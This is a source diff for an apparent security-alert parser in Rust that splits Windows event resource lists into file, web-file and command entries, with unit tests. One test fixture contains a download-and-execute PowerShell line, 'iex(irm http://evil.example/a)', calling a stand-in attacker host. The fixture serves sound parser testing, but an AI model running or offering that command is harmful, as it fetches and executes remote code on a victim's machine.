@@ -4,23 +4,58 @@ use crate::{path, url};
 
 /// Says whether a field holds such a list. In any other the same is the name of a file, which somebody chose.
 pub(crate) fn is_list(path: &str, text: &str) -> bool {
-    path::of_the_occasion(path) == "data.win.eventdata.path" && text.contains("file:_")
+    let tells = |(kind, _): (&str, &str)| is_file(kind) || is_command(kind);
+    path::of_the_occasion(path) == "data.win.eventdata.path" && entries(text).any(tells)
 }
 
 /// The files in a list.
 pub(crate) fn files(list: &str) -> impl Iterator<Item = &str> {
-    list.split(';').filter_map(|one| {
-        let (_, file) = one.split_once("file:_")?;
+    entries(list).filter(|(kind, _)| is_file(kind)).map(|(_, file)| {
         let end = file.find('|').or_else(|| file.find("->")).unwrap_or(file.len());
-        Some(file[..end].trim())
+        file[..end].trim()
     })
 }
 
 /// From where files in a list were fetched.
 pub(crate) fn urls(list: &str) -> impl Iterator<Item = &str> {
-    // Not by element: a URL may have a semicolon in it.
-    let behind_a_mark = list.split("webfile:_").skip(1);
-    behind_a_mark.filter_map(|one| url::all(one.split('|').nth(1)?).next())
+    entries(list)
+        .filter(|(kind, _)| kind.eq_ignore_ascii_case("webfile"))
+        .filter_map(|(_, file)| url::all(file.split('|').nth(1)?).next())
+}
+
+/// The commands in a list.
+pub(crate) fn commands(list: &str) -> impl Iterator<Item = &str> {
+    entries(list)
+        .filter(|(kind, _)| is_command(kind))
+        .map(|(_, command)| command.trim())
+}
+
+fn is_file(kind: &str) -> bool {
+    kind.to_ascii_lowercase().ends_with("file")
+}
+
+fn is_command(kind: &str) -> bool {
+    kind.eq_ignore_ascii_case("cmdline")
+}
+
+/// The entries of a list, each with its kind. A command or a URL may have a semicolon in it: only what begins like an entry is one.
+fn entries(list: &str) -> impl Iterator<Item = (&str, &str)> {
+    const BETWEEN: &str = "; ";
+    let mut rest = Some(list.trim_start());
+    std::iter::from_fn(move || {
+        let (kind, text) = entry(rest.take()?)?;
+        let mut ends = text.match_indices(BETWEEN).map(|(at, _)| at);
+        let end = ends.find(|at| entry(&text[at + BETWEEN.len()..]).is_some());
+        rest = end.map(|end| &text[end + BETWEEN.len()..]);
+        Some((kind, &text[..end.unwrap_or(text.len())]))
+    })
+}
+
+/// The kind of an entry and what is behind it, if one begins here: `file:_C:\a.exe`.
+fn entry(text: &str) -> Option<(&str, &str)> {
+    let letters = text.bytes().take_while(u8::is_ascii_alphabetic).count();
+    let (kind, rest) = text.split_at(letters);
+    (letters > 1).then(|| Some((kind, rest.strip_prefix(":_")?))).flatten()
 }
 
 #[cfg(test)]
@@ -37,6 +72,24 @@ mod tests {
         assert!(is_list("data.win.eventdata.path", list));
         assert!(is_list("data.parameters.alert.data.win.eventdata.path", list));
         assert!(!is_list("data.win.eventdata.path", r"C:\x\http://evil.example/"));
+        for other in [
+            r"C:\x\file:_a.exe",
+            r"C:\x.ps1; file:_C:\a.exe",
+            "process:_pid:1,ProcessStart:1",
+            "x:_y",
+        ] {
+            assert!(!is_list("data.win.eventdata.path", other), "{other}");
+        }
         assert!(!is_list("syscheck.path", list) && !is_list("data.win.eventdata.targetFilename", list));
+    }
+
+    #[test]
+    fn a_command_is_no_file_and_may_have_semicolons() {
+        let list = r"CmdLine:_C:\p.exe -c a; b:_; iex(irm http://evil.example/a); file:_C:\a.ps1; amsi:_C:\p.exe";
+        assert!(is_list("data.win.eventdata.path", list));
+        let commands: Vec<_> = commands(list).collect();
+        assert_eq!(commands, [r"C:\p.exe -c a; b:_; iex(irm http://evil.example/a)"]);
+        assert_eq!(files(list).collect::<Vec<_>>(), [r"C:\a.ps1"]);
+        assert!(is_list("data.win.eventdata.path", r"CmdLine:_C:\p.exe") && urls(list).next().is_none());
     }
 }
